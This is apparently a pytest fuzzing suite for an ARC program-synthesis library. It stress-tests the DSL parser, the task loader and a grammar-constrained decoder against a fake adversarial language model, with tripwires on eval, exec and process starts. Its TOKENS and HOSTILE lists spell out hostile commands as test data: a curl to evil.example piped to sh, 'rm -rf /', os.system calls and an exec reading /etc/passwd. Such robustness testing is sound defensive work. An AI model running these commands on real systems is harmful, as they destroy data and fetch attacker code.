"""Fuzzing the two text front doors: the program parser (+ type checker) and the task loader.

Random and mutated program text must either parse, type-check and print back to itself, or fail with a
DSLError (DSLSyntaxError / DSLTypeError); random and mutated task files must load or fail with a
TaskFormatError. Nothing else may escape, and no case may take more than a few seconds.

LLM output: a hostile fake model (logits that push for Python and shell text, or for endless output)
drives the llguidance GrammarConstraint; hostile tokens are masked out, what comes out is handed only to
the DSL parser, eval/exec of that text and process starts are tripwires, and memory stays bounded.

Counts: `python3 -m pytest tests/test_fuzz.py -q -s --hypothesis-show-statistics` (the last test prints
the totals; ARCSYNTH_FUZZ_SCALE multiplies the number of cases, default 1).
"""
from __future__ import annotations

import collections
import functools
import json
import os
import signal
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from arcsynth.core.task import TaskFormatError, load_dir, load_kaggle, load_task_file, task_from_json
from arcsynth.dsl import REGISTRY, DSLError, Grid, Limits, check, parse, run_program, to_text
from arcsynth.dsl.library import list_solutions, read_program
from arcsynth.dsl.sampler import sample_programs

SCALE = float(os.environ.get("ARCSYNTH_FUZZ_SCALE", "1"))
#: Seconds any single parse / load may take before it counts as a hang.
CASE_SECONDS = 5.0

#: Cases run and how they ended, per fuzz target (printed by the last test).
COUNTS: dict[str, collections.Counter[str]] = collections.defaultdict(collections.Counter)


def fuzz_settings(n: int) -> settings:
    return settings(max_examples=max(1, int(n * SCALE)), deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


class Hang(Exception):
    """A single fuzz case ran past CASE_SECONDS."""


class time_limit:
    """SIGALRM-based wall-clock limit around one case."""

    def __init__(self, seconds: float = CASE_SECONDS):
        self.seconds = seconds

    def __enter__(self) -> None:
        def on_alarm(signum: int, frame: Any) -> None:
            raise Hang(f"case exceeded {self.seconds} s")
        self.old = signal.signal(signal.SIGALRM, on_alarm)
        signal.setitimer(signal.ITIMER_REAL, self.seconds)

    def __exit__(self, *exc: object) -> None:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, self.old)


# ------------------------------------------------------------------------------------------ programs
SOLUTIONS = Path(__file__).resolve().parent.parent / "examples" / "solutions"


@functools.lru_cache(maxsize=1)
def seed_programs() -> tuple[str, ...]:
    """Valid programs to mutate: grammar samples plus the hand-written reference solutions."""
    refs = [read_program(p) for p in list(list_solutions(SOLUTIONS).values())[:120]]
    return tuple(sample_programs(200, seed=7, max_depth=6) + refs)


@pytest.fixture(scope="module", autouse=True)
def _warm() -> None:
    """Build seed programs and the parser outside any strategy (they use the random module)."""
    seed_programs()
    parse("I")


#: Tokens a fuzzer inserts: pieces of real programs, and hostile text that must never be executed.
TOKENS = sorted(REGISTRY)[:: 7] + [
    "(", ")", ",", "_", "I", " ", "\n", "\t", "0", "9", "-", "-1", "99", "100", "true", "false", "(1, 2)",
    "((", "))", ",,", "__import__('os').system('echo pwned')", "lambda x: x", "eval", "exec", "os", "$(rm -rf /)",
    "`id`", "; ls", "\x00", "\u00e9", "\u0660", "\uff11", "\ud7ff", "I" * 50, "rot90(" * 20,
]
PROGRAM_ALPHABET = st.sampled_from(list("()_, I-0123456789abcdefghijklmnopqrstuvwxyz\n\t\"'.:;[]{}=+*/\\#\x00é٠１"))


def parse_case(text: str, target: str) -> None:
    """Parse + type-check one text; success must round-trip and run to a Grid or DSLError."""
    c = COUNTS[target]
    c["cases"] += 1
    with time_limit():
        try:
            node = parse(text)
            check(node)
        except DSLError:
            c["dsl_error"] += 1
            return
        printed = to_text(node)
        assert parse(printed) == node, f"round trip broke for {text!r}"
        c["well_typed"] += 1
        try:
            out = run_program(node, _probe_grid(), Limits(max_seconds=1.0))
            assert isinstance(out, Grid)
            c["ran"] += 1
        except DSLError:
            c["ran_dsl_error"] += 1


@functools.lru_cache(maxsize=1)
def _probe_grid() -> Grid:
    return Grid([[0, 0, 1, 1], [0, 2, 2, 1], [3, 0, 0, 0]])


@given(st.text(PROGRAM_ALPHABET, max_size=120))
@fuzz_settings(600)
def test_fuzz_random_program_text(text: str) -> None:
    parse_case(text, "parser: random text")


@given(st.text(max_size=80))
@fuzz_settings(300)
def test_fuzz_random_unicode_text(text: str) -> None:
    parse_case(text, "parser: random unicode")


@given(st.lists(st.sampled_from(TOKENS), max_size=30).map("".join))
@fuzz_settings(500)
def test_fuzz_token_soup(text: str) -> None:
    parse_case(text, "parser: token soup")


def _mutate(text: str, ops: list[tuple[int, int, int, str]]) -> str:
    """Apply edit operations (kind, position, length, token) to text: delete, insert, replace, duplicate, truncate."""
    for kind, pos, length, tok in ops:
        n = len(text)
        i = pos % (n + 1)
        j = min(n, i + length)
        if kind == 0:
            text = text[:i] + text[j:]
        elif kind == 1:
            text = text[:i] + tok + text[i:]
        elif kind == 2:
            text = text[:i] + tok + text[j:]
        elif kind == 3:
            text = text[:j] + text[i:j] + text[j:]
        elif kind == 4:
            text = text[:i]
        else:
            k = (pos * 7919) % (n + 1)
            text = text[:i] + text[k:k + length] + text[j:]
    return text


mutations = st.lists(st.tuples(st.integers(0, 5), st.integers(0, 10_000), st.integers(0, 12), st.sampled_from(TOKENS)),
                     min_size=1, max_size=4)


@given(st.integers(0, 10**6), mutations)
@fuzz_settings(900)
def test_fuzz_mutated_programs(which: int, ops: list[tuple[int, int, int, str]]) -> None:
    progs = seed_programs()
    parse_case(_mutate(progs[which % len(progs)], ops), "parser: mutated programs")


@pytest.mark.parametrize("text", [
    "", " ", "\x00", "I" * 100_000, "I" * 100_001, "rot90(" * 60 + "I" + ")" * 60,
    "rot90(" * 100 + "I" + ")" * 100, "rot90(" * 101 + "I" + ")" * 101, "rot90(" * 300 + "I" + ")" * 300, "rot90(" * 5000 + "I" + ")" * 5000, "(" * 50_000,
    "recolor(I, 1, " + "(" * 20_000, "__import__('os').system('echo pwned')", "rot90(I) # comment",
    "rot90(I)\x00", "upscale(I, 99999999999999999999999999)", "upscale(I, -0)", "crop(I, (1,2), (-99, 99))",
    "map_objs(_, _)", "_", "rot90(_)", "I I", "rot90(I),", "rot90(I))", "ROT90(I)", "rot90 (I)", "rot90(\nI\n)",
])
def test_parser_edge_cases(text: str) -> None:
    parse_case(text, "parser: edge cases")


# --------------------------------------------------------------------------------------------- tasks
GOOD = {"train": [{"input": [[1, 2], [3, 4]], "output": [[2, 1], [4, 3]]},
                  {"input": [[5, 0, 5]], "output": [[5, 0, 5]]}],
        "test": [{"input": [[7, 8]], "output": [[8, 7]]}]}
GOOD_TEXTS = (json.dumps(GOOD), json.dumps(GOOD, indent=1), json.dumps({"test": GOOD["test"], "train": GOOD["train"]}))

JSON_TOKENS = ['{', '}', '[', ']', ',', ':', '"', '"train"', '"test"', '"input"', '"output"', 'null', 'true', '1e999',
               'NaN', '-Infinity', '-', '10', '-1', '1.5', '9' * 5000, '[' * 3000, ']' * 3000, '\\u0000', '\\ud800',
               '\x00', '\xff', '"\u00e9"', ' ', '\n', '\ufeff', '[[]]', '[[1,2],[3]]', '{}', '[[0]]']


def load_case(data: bytes, target: str) -> None:
    """Write bytes to a task file and load it (alone and as a directory): a Task or TaskFormatError."""
    c = COUNTS[target]
    c["cases"] += 1
    with tempfile.TemporaryDirectory() as d:
        p = Path(d) / "t.json"
        p.write_bytes(data)
        with time_limit():
            try:
                t = load_task_file(p)
            except TaskFormatError as e:
                assert str(p) in str(e) and "\n" not in str(e), str(e)
                c["task_format_error"] += 1
            else:
                assert t.id == "t" and t.train and t.test
                c["loaded"] += 1
            errors: list[str] = []
            try:
                tasks = load_dir(d, errors)
            except TaskFormatError:
                tasks = []
            assert len(tasks) + len(errors) <= 1


@given(st.binary(max_size=400))
@fuzz_settings(300)
def test_fuzz_random_bytes_as_task_file(data: bytes) -> None:
    load_case(data, "loader: random bytes")


@given(st.integers(0, 2), st.lists(st.tuples(st.integers(0, 5), st.integers(0, 10_000), st.integers(0, 8),
                                             st.sampled_from(JSON_TOKENS)), min_size=1, max_size=4))
@fuzz_settings(600)
def test_fuzz_mutated_task_json(which: int, ops: list[tuple[int, int, int, str]]) -> None:
    text = _mutate(GOOD_TEXTS[which], ops)
    load_case(text.encode("utf-8", errors="surrogatepass"), "loader: mutated JSON text")


cells = st.one_of(st.integers(0, 9), st.integers(-3, 12), st.integers(-10**30, 10**30), st.booleans(), st.none(),
                  st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=2))
rows = st.lists(cells, max_size=4)
grids = st.one_of(st.lists(st.lists(st.integers(0, 9), min_size=3, max_size=3), min_size=1, max_size=3),
                  st.lists(rows, max_size=4), cells, st.dictionaries(st.text(max_size=3), cells, max_size=2))
pairs = st.one_of(st.fixed_dictionaries({"input": grids, "output": grids}),
                  st.fixed_dictionaries({"input": grids}), st.dictionaries(st.sampled_from(["input", "output", "x"]),
                                                                           grids, max_size=3), cells)
json_values = st.recursive(st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=5)),
                           lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                   st.dictionaries(st.text(max_size=6), inner, max_size=3)),
                           max_leaves=12)
valid_grids = st.integers(1, 4).flatmap(lambda w: st.lists(st.lists(st.integers(0, 9), min_size=w, max_size=w),
                                                            min_size=1, max_size=4))
valid_pairs = st.fixed_dictionaries({"input": valid_grids, "output": valid_grids})
#: Pairs that are mostly valid, so that whole tasks load often enough to exercise the success path too.
mostly_valid_pairs = st.integers(0, 5).flatmap(lambda i: pairs if i == 0 else valid_pairs)
task_objects = st.one_of(
    st.fixed_dictionaries({"train": st.lists(pairs, max_size=3), "test": st.lists(pairs, max_size=2)}),
    st.fixed_dictionaries({"train": st.lists(mostly_valid_pairs, max_size=3),
                           "test": st.lists(mostly_valid_pairs, max_size=2)}),
    st.fixed_dictionaries({"train": st.one_of(json_values, st.lists(pairs, max_size=2))}),
    json_values)


@given(task_objects)
@fuzz_settings(600)
def test_fuzz_structured_task_objects(obj: object) -> None:
    """Near-miss task objects, in memory and through a file: a Task or TaskFormatError."""
    c = COUNTS["loader: structured task objects"]
    c["cases"] += 1
    with time_limit():
        try:
            task_from_json(obj, "x", "fuzz")
            c["loaded"] += 1
        except TaskFormatError as e:
            assert str(e).startswith("fuzz (task x)"), str(e)
            c["task_format_error"] += 1
    load_case(json.dumps(obj).encode(), "loader: structured task objects (file)")


@given(st.dictionaries(st.text(max_size=4), st.one_of(task_objects, st.just(GOOD)), max_size=3),
       st.one_of(st.none(), json_values, st.dictionaries(st.text(max_size=4), st.lists(grids, max_size=2), max_size=3)))
@fuzz_settings(300)
def test_fuzz_kaggle_bundles(challenges: object, solutions: object) -> None:
    """Random Kaggle challenge/solution bundles: tasks or TaskFormatError."""
    c = COUNTS["loader: kaggle bundles"]
    c["cases"] += 1
    with tempfile.TemporaryDirectory() as d:
        ch = Path(d) / "challenges.json"
        ch.write_text(json.dumps(challenges))
        so = None
        if solutions is not None:
            so = Path(d) / "solutions.json"
            so.write_text(json.dumps(solutions))
        with time_limit():
            try:
                load_kaggle(ch, so)
                c["loaded"] += 1
            except TaskFormatError:
                c["task_format_error"] += 1


@pytest.mark.parametrize("text", [
    "", "\ufeff" + json.dumps(GOOD), "[" * 100_000 + "]" * 100_000, '{"train": ' + "[" * 100_000, "9" * 5000,
    '{"train": [{"input": [[' + "9" * 5000 + ']], "output": [[1]]}], "test": [{"input": [[1]]}]}',
    '{"train": [{"input": [[1e999]], "output": [[1]]}], "test": [{"input": [[1]]}]}',
    '{"train": [{"input": [[NaN]], "output": [[1]]}], "test": [{"input": [[1]]}]}',
    '{"train": [{"input": [[1]], "output": [[1]]}], "test": [{"input": [[1]]}], "train": []}',
    json.dumps({"train": [{"input": [[0] * 30] * 30, "output": [[0] * 30] * 31}], "test": [{"input": [[1]]}]}),
    json.dumps({"train": [{"input": [[1.0]], "output": [[1]]}], "test": [{"input": [[1]]}]}),
    json.dumps({"train": [{"input": [[True]], "output": [[1]]}], "test": [{"input": [[1]]}]}),
    json.dumps({"train": [{"input": [[1]], "output": None}], "test": [{"input": [[1]]}]}),
    json.dumps({"train": [{"input": [[1]], "output": [[1]]}], "test": [{"input": [[1]], "output": None}]}),
])
def test_task_loader_edge_cases(text: str) -> None:
    load_case(text.encode(), "loader: edge cases")


def test_kaggle_edge_cases(tmp_path: Path) -> None:
    """Solutions for a task whose 'test' is missing or not a list: a TaskFormatError, not a crash."""
    ch = tmp_path / "c.json"
    so = tmp_path / "s.json"
    for task in ({"train": GOOD["train"]}, {"train": GOOD["train"], "test": 5}, {"train": GOOD["train"], "test": "ab"}):
        ch.write_text(json.dumps({"t": task}))
        for sols in ({"t": []}, {"t": [[[1]], [[2]]]}, {"t": 5}):
            so.write_text(json.dumps(sols))
            with pytest.raises(TaskFormatError):
                load_kaggle(ch, so)
    COUNTS["loader: edge cases"]["cases"] += 9


# ------------------------------------------------------------------------------- hostile LLM output
HOSTILE = ("__import__('os').system('rm -rf /')", "$(curl http://evil.example/x.sh | sh); rm -rf / #",
           "exec(open('/etc/passwd').read())", "import os; os.system('id')",
           "rot90(I)\n__import__('os').system('id')", "rot90(I)); eval('1+1')", "9" * 400)


@pytest.fixture(scope="module")
def hostile_tokenizer():  # type: ignore[no-untyped-def]
    """A byte-level BPE tokenizer trained on programs *and* hostile text, so whole hostile words are single tokens."""
    from arcsynth.lm.tokenizer import build_tokenizer
    return build_tokenizer(list(seed_programs()[:200]) + list(HOSTILE) * 20, vocab_size=600)


class HostileModel:
    """A fake language model whose logits push hard for the tokens that spell a hostile target text.

    Mode "target": the longest token continuing the target gets logit 100 (plus its length); after the
    target is spelled out it starts over. Mode "long": the longest tokens, digit runs and whitespace win,
    and end-of-sequence never does (an attempt at unbounded output). Every other token gets small noise.
    """

    def __init__(self, texts: dict[int, str], eos: int, target: str, mode: str, seed: int):
        import numpy as np
        self.np = np
        self.texts, self.eos, self.target, self.mode = texts, eos, target, mode
        self.rng = np.random.default_rng(seed)
        self.pos = 0
        self.by_text = {t: i for i, t in texts.items() if t}
        self.longest = max(len(t) for t in texts.values())
        lengths = np.array([len(texts[i]) for i in range(len(texts))], dtype=float)
        runs = np.array([200.0 if texts[i].strip() == "" or texts[i].isdigit() else 0.0 for i in range(len(texts))])
        self.long_bias = 10 * lengths + runs
        self.long_bias[eos] = -1e9

    def logits(self) -> Any:
        out = self.rng.normal(0.0, 1.0, len(self.texts))
        if self.mode == "long":
            return out + self.long_bias
        rest = self.target[self.pos:] or self.target
        for k in range(1, min(len(rest), self.longest) + 1):
            i = self.by_text.get(rest[:k])
            if i is not None:
                out[i] = 100 + k
        return out

    def observe(self, token_text: str) -> None:
        rest = self.target[self.pos:]
        self.pos = self.pos + len(token_text) if token_text and rest.startswith(token_text) else self.pos
        if self.pos >= len(self.target):
            self.pos = 0


def _tripwire(*args: object, **kwargs: object) -> None:
    raise AssertionError(f"generated text reached an executor: {args!r:.200}")


#: Texts a hostile model wanted or produced; executing source that contains one of them trips the wire.
TAINTED: list[str] = list(HOSTILE)


def _source_tripwire(original: Any) -> Any:
    """eval/exec that fail on source containing model text, yet still serve libraries' own code (imports, namedtuple)."""
    def guarded(source: object, *args: object, **kwargs: object) -> Any:
        if isinstance(source, bytes):
            source = source.decode("utf-8", "replace")
        if isinstance(source, str) and any(len(t) >= 6 and t in source for t in TAINTED):
            _tripwire(source)
        return original(source, *args, **kwargs)
    return guarded


class no_execution:
    """While active, eval/exec of model text and every way of starting a process raise (restored on exit)."""

    def __enter__(self) -> None:
        import builtins
        import subprocess
        self.saved = [(mod, name, getattr(mod, name)) for mod, name in (
            (builtins, "eval"), (builtins, "exec"), (os, "system"), (os, "popen"), (os, "execv"), (os, "execvp"),
            (subprocess, "Popen"), (subprocess, "run"), (subprocess, "call"), (subprocess, "check_output"))]
        for mod, name, fn in self.saved:
            setattr(mod, name, _source_tripwire(fn) if name in ("eval", "exec") else _tripwire)

    def __exit__(self, *exc: object) -> None:
        for mod, name, fn in self.saved:
            setattr(mod, name, fn)


def test_hostile_model_output_is_only_ever_parsed(hostile_tokenizer) -> None:  # type: ignore[no-untyped-def]
    """Hostile token streams through the llguidance grammar constraint: hostile tokens are masked out, every
    finished text is a well-typed program for the DSL parser, output length and memory stay bounded, and
    nothing reaches eval/exec or a shell (those are tripwires here)."""
    import tracemalloc

    from arcsynth.lm.constrained import GrammarConstraint
    tok = hostile_tokenizer
    texts = {i: tok.decode([i]) for i in range(len(tok))}
    longest = max(len(t) for t in texts.values())
    hostile_words = [i for i, t in texts.items() if any(w in t for w in ("import", "rm", "exec", "os", "'", "$", ";"))]
    assert hostile_words, "the tokenizer should have hostile tokens to offer"
    c = COUNTS["hostile model: constrained generations"]
    max_tokens = 120
    with no_execution(), pytest.raises(AssertionError, match="reached an executor"):
        eval(HOSTILE[0])  # the wire itself works
    tracemalloc.start()
    try:
        with no_execution():
            for g, (target, mode) in enumerate([(t, "target") for t in HOSTILE] + [("", "long")] * 3):
                for seed in range(3):
                    model = HostileModel(texts, tok.eos_token_id, target, mode, seed=100 * g + seed)
                    gc = GrammarConstraint(tok, max_tokens=max_tokens)
                    ids: list[int] = []
                    while not gc.done:
                        raw = model.logits()
                        allowed = gc.allowed()
                        c["steps"] += 1
                        c["masked_out"] += int(not allowed[int(raw.argmax())])
                        choice = int(gc.mask_logits(raw).argmax())
                        assert allowed[choice]
                        if choice == gc.eos:
                            break
                        gc.advance(choice)  # raises if the grammar forbids it: it never does
                        ids.append(choice)
                        model.observe(texts[choice])
                    text = tok.decode(ids)
                    TAINTED.append(text)
                    c["cases"] += 1
                    assert len(text) <= max_tokens * longest
                    assert not any(w in text for w in ("import", "exec", "system", "'", "$", ";", "/", "#")), text
                    try:
                        node = parse(text)
                        check(node)
                    except DSLError:
                        assert not gc.accepting(), f"an accepted text failed to parse: {text!r}"
                        c["unfinished_rejected_by_parser"] += 1
                        continue
                    c["programs"] += 1
                    try:
                        run_program(node, _probe_grid(), Limits(max_seconds=1.0))
                        c["programs_ran"] += 1
                    except DSLError:
                        c["programs_ran_dsl_error"] += 1
            # Hostile text that skipped the constraint altogether is refused by the parser, quickly and cheaply.
            for t in HOSTILE + ("x" * 50_000_000,):
                with pytest.raises(DSLError):
                    parse(t)
                c["raw_hostile_rejected"] += 1
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert c["masked_out"] > c["steps"] // 4, "the hostile model should have been overruled often"
    assert c["programs"] > 0
    # Python-side peak: the 50 MB test string itself plus bounded decoding state.
    assert peak < 50_000_000 + 64 * 1024**2, peak


def test_zz_fuzz_totals() -> None:
    """Print how many fuzz cases ran and how they ended (the figures quoted in the README)."""
    if not COUNTS:
        pytest.skip("run with the whole file to see totals")
    total = 0
    for target, c in sorted(COUNTS.items()):
        total += c["cases"]
        print(f"\n  {target}: {dict(c)}", end="")
    print(f"\nfuzz cases: {total}")
    assert total > 0
